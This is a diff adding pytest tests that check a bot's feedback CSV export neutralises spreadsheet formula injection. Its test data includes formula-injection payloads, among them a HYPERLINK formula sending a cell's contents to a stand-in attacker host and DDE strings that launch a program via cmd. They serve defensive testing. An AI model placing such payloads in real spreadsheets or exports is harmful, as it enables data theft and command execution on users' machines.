@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 
-from bot.feedback import FeedbackStore
+from bot.feedback import FeedbackStore, csv_cell
 
 REPO = Path(__file__).resolve().parent.parent
 GDP = "2019年全市GDP是多少？"
@@ -96,3 +96,35 @@ def test_report_bad_date_and_no_data(tmp_path):
     empty = run_report(tmp_path / "nothing")
     assert empty.returncode == 0 and "还没有反馈数据" in empty.stdout
     assert not (tmp_path / "nothing").exists()  # the report never creates a database
+
+
+@pytest.mark.parametrize("text,safe", [
+    ("=1+1", "'=1+1"), ("+86 510", "'+86 510"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"), ("－1", "'－1"),
+    ("上半年资助了多少学生？", "上半年资助了多少学生？"), ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
+])
+def test_csv_cell_neutralises_formulas(text, safe):
+    assert csv_cell(text) == safe
+    assert csv_cell(3) == 3 and csv_cell(None) is None  # counts and empty cells unchanged
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "问题\r=1+1", "问题\n@SUM(1)"]
+
+
+def test_report_csv_has_no_formula_cells(tmp_path):
+    store = FeedbackStore.in_dir(tmp_path)
+    for f in FORMULAS:
+        store.refusal(f, channel="api")
+        store.vote("down", f"问{f}", f, channel="api")
+    store.close()
+    out = subprocess.run([sys.executable, "-m", "bot", "report", "--csv"], cwd=REPO, capture_output=True,
+                         env={**os.environ, "BOT_DATA_DIR": str(tmp_path)}, timeout=60)  # bytes: CR stays CR
+    assert out.returncode == 0, out.stderr
+    rows = list(csv.reader(io.StringIO(out.stdout.decode("utf-8"), newline="")))
+    assert len(rows) == 1 + 2 * len(FORMULAS) and all(len(r) == 5 for r in rows)  # a line break never ends a row
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))], cells
+    safe = {f if f.startswith("问") else "'" + f for f in FORMULAS}  # the text is kept, after a quote
+    assert {r[3] for r in rows if r[0] == "refused"} == safe
+    assert {r[4] for r in rows if r[0] == "disliked"} == safe
